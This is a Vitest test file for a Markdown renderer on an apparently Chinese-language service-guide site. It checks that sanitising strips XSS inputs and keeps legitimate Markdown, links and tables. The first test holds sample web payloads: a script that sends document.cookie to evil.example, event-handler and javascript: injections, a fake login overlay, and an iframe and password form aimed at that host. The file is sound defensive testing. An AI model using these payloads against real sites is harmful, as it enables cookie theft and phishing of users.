import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './load.ts';

describe('raw HTML in a content body', () => {
  it('drops scripts, event handlers, styles, frames, forms and javascript: addresses, keeping the text around them', () => {
    const html = renderMarkdown(
      [
        '申请时间<script>fetch("https://evil.example/?c=" + document.cookie)</script>见下。',
        '',
        '<img src="x" onerror="alert(1)" alt="示意图">',
        '',
        '[申请表](javascript:alert(1)) 和 <a href="JaVaScRiPt:alert(2)" onclick="alert(3)">附件</a>',
        '',
        '<p style="position:fixed;inset:0">假的登录框</p><iframe src="https://evil.example/"></iframe>',
        '',
        '<form action="https://evil.example/"><input name="password"></form>',
        '',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="图"> <a href="//evil.example/">链接</a>',
      ].join('\n'),
    );
    for (const attack of ['<script', 'document.cookie', 'onerror', 'onclick', 'javascript:', 'JaVaScRiPt', 'style=', '<iframe', '<form', '<input', 'data:', '//evil.example']) {
      expect(html).not.toContain(attack);
    }
    expect(html).toContain('申请时间见下。');
    expect(html).toContain('假的登录框');
    expect(html).toContain('<img src="x" alt="示意图" />');
  });

  it('keeps what Markdown writes and the HTML the content files use', () => {
    const body = [
      '## 办理地点',
      '',
      'The <span lang="zh-Hans">残疾人联合会</span> office, <a href="https://www.example.gov.cn/guide">guide</a>, [mail](mailto:office@example.org), [call](tel:+861012345678).',
      '',
      '| 项目 | 时间 |',
      '| :--- | ---: |',
      '| 申请 | 3月 |',
      '',
      '![残疾人证的样子](/images/card.png) ~~旧的~~ `code` "quoted" & \'single\'',
      '',
      '3. third',
      '4. fourth',
    ].join('\n');
    const html = renderMarkdown(body);
    expect(html).toContain('<span lang="zh-Hans">残疾人联合会</span>');
    expect(html).toContain('<a href="https://www.example.gov.cn/guide">guide</a>');
    expect(html).toContain('<a href="mailto:office@example.org">mail</a>');
    expect(html).toContain('<a href="tel:+861012345678">call</a>');
    expect(html).toContain('<th align="left">项目</th>');
    expect(html).toContain('<td align="right">3月</td>');
    expect(html).toContain('<img src="/images/card.png" alt="残疾人证的样子" />');
    expect(html).toContain('<del>旧的</del>');
    expect(html).toContain('&quot;quoted&quot; &amp; &#39;single&#39;');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<h2>办理地点</h2>');
  });
});
